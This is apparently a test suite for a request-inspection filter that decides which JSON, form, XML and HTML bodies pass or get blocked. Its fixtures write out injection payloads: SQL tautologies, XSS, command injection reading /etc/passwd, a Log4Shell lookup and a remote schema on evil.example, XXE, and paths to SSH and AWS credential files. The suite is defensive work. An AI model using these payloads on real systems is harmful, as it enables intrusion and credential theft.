import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

function sent(type: string, body: string, method = 'POST', target = '/x'): string | undefined {
  const { verdict, matches } = inspect({
    method,
    target,
    headers: ['content-type', type],
    body: Buffer.from(body),
  })
  return verdict === 'pass' ? undefined : `${verdict}: ${matches[0]?.rule} at ${matches[0]?.location}`
}

const JSON_TYPE = 'application/json'
const FORM = 'application/x-www-form-urlencoded'

const PACKAGE = {
  name: 'left-door',
  engines: { node: '^18 || ^20 || >=22' },
  scripts: {
    build: 'tsc -p . && node ./scripts/copy.js',
    prepare: 'rm -rf dist && npm run build',
    release: 'git tag $(node -e "console.log(require(\'./package.json\').version)") && sh release.sh',
  },
}

describe('documents that honest clients send', () => {
  test('a package with its scripts, as a body, in a field of a form, in a string', () => {
    assert.equal(sent(JSON_TYPE, JSON.stringify(PACKAGE), 'PUT', '/left-door'), undefined)
    assert.equal(sent(FORM, `payload=${encodeURIComponent(JSON.stringify(PACKAGE))}`), undefined)
    assert.equal(sent(JSON_TYPE, JSON.stringify({ data: JSON.stringify(PACKAGE) })), undefined)
  })

  test('a container with its command, a pipeline with its steps', () => {
    const container = {
      name: 'app',
      command: ['sh', '-c', 'migrate; exec nginx -g "daemon off;"'],
      args: ['; ls'],
    }
    assert.equal(sent(JSON_TYPE, JSON.stringify({ spec: { containers: [container] } })), undefined)
    const job = { jobs: { build: { steps: [{ run: 'cd app && npm ci && npm test' }] } } }
    assert.equal(sent(JSON_TYPE, JSON.stringify(job)), undefined)
  })

  test('only the fields in which such documents hold commands are read so', () => {
    for (const field of ['host', 'name', 'file']) {
      assert.notEqual(sent(JSON_TYPE, JSON.stringify({ [field]: '127.0.0.1; cat /etc/passwd' })), undefined)
    }
    const active = { scripts: { x: '<img src=x onerror=alert(1)>' } }
    assert.notEqual(sent(JSON_TYPE, JSON.stringify(active)), undefined)
  })

  test('JSON in a field is read by its strings, and an attack in one of them is found', () => {
    const filter = (text: string): string =>
      `filter=${encodeURIComponent(JSON.stringify({ a: [{ b: text }] }))}`
    assert.equal(sent(FORM, filter('^4 || ^5')), undefined)
    for (const attack of [
      "x' or '1'='1",
      '<script>alert(1)</script>',
      ';cat /etc/passwd',
      '${jndi:ldap://x/a}',
    ]) {
      assert.notEqual(sent(FORM, filter(attack)), undefined, attack)
      // What is not JSON to the last character is text.
      assert.notEqual(sent(FORM, `filter=${encodeURIComponent(`{"a":1}${attack}`)}`), undefined, attack)
    }
    assert.notEqual(sent(FORM, `filter=${encodeURIComponent('{"$type":"System.Data.X","a":1}')}`), undefined)
  })

  test('a page under any type may have elements that are never closed', () => {
    const page = `<!DOCTYPE html><html><head><meta charset=utf-8></head><body>${'<p>One<br>two<li>three'.repeat(300)}</body></html>`
    for (const type of ['text/plain', 'text/html', '']) assert.equal(sent(type, page), undefined, type)
    assert.match(sent('application/xml', '<a>'.repeat(300)) ?? '', /bounds\/depth/)
  })

  test('a page that shows queries, commands and paths is a document, whatever its elements hold', () => {
    const shown = ["' or '1'='1", 'cmd /c dir', '/etc/passwd', 'require("fs").readFileSync(x)', 'a; rm -rf b']
    const code = shown.map(text => `<p>Like this:</p>\n<pre><code>${text}</code></pre>`).join('\n')
    const page = `<!DOCTYPE html>\n<html>\n<body>\n<h1>How to</h1>\n${code}\n${'<p>And so on.</p>'.repeat(20)}\n</body></html>`
    for (const type of ['text/plain', 'text/html', '']) assert.equal(sent(type, page), undefined, type)
    assert.match(sent('application/xhtml+xml', page) ?? '', /^block/)
    const entity = page.replace(
      '<!DOCTYPE html>',
      '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    )
    assert.match(sent('text/plain', entity) ?? '', /^block: xxe/)
  })

  test('patterns of paths in settings are not commands', () => {
    for (const path of ['/test/*', '/users/*/mail', '/files/**'])
      assert.equal(sent(JSON_TYPE, JSON.stringify({ routes: [path] })), undefined, path)
  })

  test('an XML document names schemas of those who publish them', () => {
    const document = (schema: string): string =>
      `<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${schema}"><a>b</a></project>`
    const maven = 'http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd'
    assert.equal(sent('application/xml', document(maven)), undefined)
    assert.notEqual(
      sent('application/xml', document(`${maven} http://a.example/ http://evil.example/x.xsd`)),
      undefined,
    )
  })

  test('a Markdown comment names functions and commands, and shows how to call them', () => {
    for (const text of [
      'Since Node 18 there is `fetch`; you need no `node-fetch`.',
      'Run `npm install` and then `npm test`, or ask for `which`.',
      '```sh\ncurl https://api.example.com/items\n```',
      'The log is in /var/log/nginx/, see /etc/hosts for names.',
    ]) {
      assert.equal(sent(FORM, `comment=${encodeURIComponent(text)}`), undefined, text)
      assert.equal(sent(JSON_TYPE, JSON.stringify({ comment: text })), undefined, text)
    }
    for (const attack of ['nice `whoami`', 'nice `python3 /tmp/x.py`', 'nice `sudo id`'])
      assert.notEqual(sent(FORM, `comment=${encodeURIComponent(attack)}`), undefined, attack)
    assert.notEqual(sent(FORM, `comment=${encodeURIComponent('x;cat /etc/passwd')}`), undefined)
  })

  test('who puts an export somewhere is not looking for one', () => {
    assert.equal(sent('application/x-tar', 'site', 'PUT', '/files/site.tar'), undefined)
    assert.equal(sent('text/plain', 'create', 'PUT', '/files/dump.sql'), undefined)
    assert.equal(inspect({ method: 'GET', target: '/backup.sql.zip', headers: [] }).verdict, 'block')
    assert.notEqual(sent('text/plain', 'x', 'PUT', '/.env'), undefined)
  })
})

test('a field of a document that is named as a file holds one', () => {
  const sent = (data: Readonly<Record<string, string>>): string =>
    inspect({
      method: 'POST',
      target: '/apply',
      headers: ['content-type', 'application/json'],
      body: Buffer.from(JSON.stringify({ kind: 'ConfigMap', data })),
    }).verdict
  const script = '#!/bin/sh\nset -e\nmkdir -p /app; cp /etc/config/* /app/\nexec "$@"\n'
  assert.equal(sent({ 'init.sh': script }), 'pass')
  assert.equal(sent({ 'seed.sql': "INSERT INTO t VALUES (1, 'a');\nDELETE FROM t WHERE id = 2;" }), 'pass')
  assert.equal(sent({ 'nginx.conf': 'server { root /var/www/html; }\n# a; ls /tmp' }), 'pass')
  assert.equal(sent({ init: '; cat /etc/passwd' }), 'block')
  assert.equal(sent({ 'a.b': '; cat /etc/passwd' }), 'block')
})

describe('fields that are known by the names above them', () => {
  const passes = (document: unknown): boolean =>
    inspect({
      method: 'POST',
      target: '/',
      headers: ['content-type', 'application/json'],
      body: Buffer.from(JSON.stringify(document)),
    }).verdict === 'pass'
  const CODE = 'Why does os.system("ls -la") fail, and `docker run -v $(pwd):/app x`?'

  test('conversations with a language model and cells of notebooks are about code', () => {
    assert.ok(passes({ messages: [{ role: 'user', content: CODE }] }))
    assert.ok(passes({ messages: [{ role: 'user', content: [{ type: 'text', text: CODE }] }] }))
    assert.ok(passes({ cells: [{ source: ['import os\n', 'os.system("ls -la")\n'] }] }))
    assert.ok(!passes({ items: [{ text: CODE }] }))
  })

  test('what harms whoever reads them is refused there too', () => {
    const lookup = '$' + '{jndi:ldap://evil.example/a}'
    assert.ok(!passes([{ type: 'csp-violation', body: { sample: lookup } }]))
  })

  test('a report quotes markup of the page that broke the policy', () => {
    const sample = '<img src=x onerror='
    assert.ok(passes([{ type: 'csp-violation', body: { sample } }]))
    assert.ok(passes({ 'csp-report': { 'script-sample': sample } }))
  })
})

test('where people write, quotes and operators that code has by chance are a mention', () => {
  const comment = (text: string): string | undefined =>
    inspect({
      method: 'POST',
      target: '/comments',
      headers: ['content-type', 'application/x-www-form-urlencoded'],
      body: Buffer.from(`comment=${encodeURIComponent(text)}`),
    }).matches.find(match => match.score >= 5)?.rule
  assert.equal(comment("while '=' in cmd[pivot]: pivot += 1"), undefined)
  assert.equal(comment('it reports `javascript:alert(1)` as malformed'), undefined)
  assert.equal(comment('<a href=" javascript:alert(1)">x</a>'), 'xss/script-url')
  assert.equal(comment("x' or '1'='1"), 'sqli/tautology')
  assert.equal(comment("x' union select 1,password from users--"), 'sqli/union')
})

describe('what is the whole value of a short field', () => {
  const inField = (field: string, value: string): string | undefined =>
    sent(JSON_TYPE, JSON.stringify({ a: { [field]: value } }))
  const inElement = (field: string, value: string): string | undefined =>
    sent('application/xml', `<r><${field}>${value.replaceAll('<', '&lt;')}</${field}></r>`)

  test('runs something: refused as in a query, but where the name says that texts, code or queries stand', () => {
    for (const value of [
      "file_get_contents('x')",
      "eval(compile('import os','','exec'))",
      "'^'1",
      'sleep(5)',
      'com.example.tools.shell.Session("x")',
      '{x:{__proto__:{y:1}}}',
    ])
      for (const place of [inField, inElement]) {
        assert.notEqual(place('value', value), undefined, value)
        for (const field of ['code', 'text', 'sourceCode', 'comment'])
          assert.equal(place(field, value), undefined, `${field}: ${value}`)
      }
  })

  test('is a path, a query, a setting: data in both', () => {
    for (const value of ['/var/log/nginx/access.log', 'SELECT 1', 'memory_limit=512M', 'date(10)', 'now()'])
      for (const place of [inField, inElement]) assert.equal(place('value', value), undefined, value)
  })

  test('is a file of keys or accounts: refused, but where the name says that it is one', () => {
    for (const value of [
      '/root/.ssh/id_rsa',
      '/home/ann/.aws/credentials',
      '/opt/tomcat/conf/tomcat-users.xml',
    ])
      for (const place of [inField, inElement]) {
        assert.notEqual(place('path', value), undefined, value)
        for (const field of ['identityFile', 'privateKey', 'mountPath', 'credentials_file'])
          assert.equal(place(field, value), undefined, `${field}: ${value}`)
        assert.equal(place('text', `put it into ${value} first`), undefined, value)
      }
  })
})
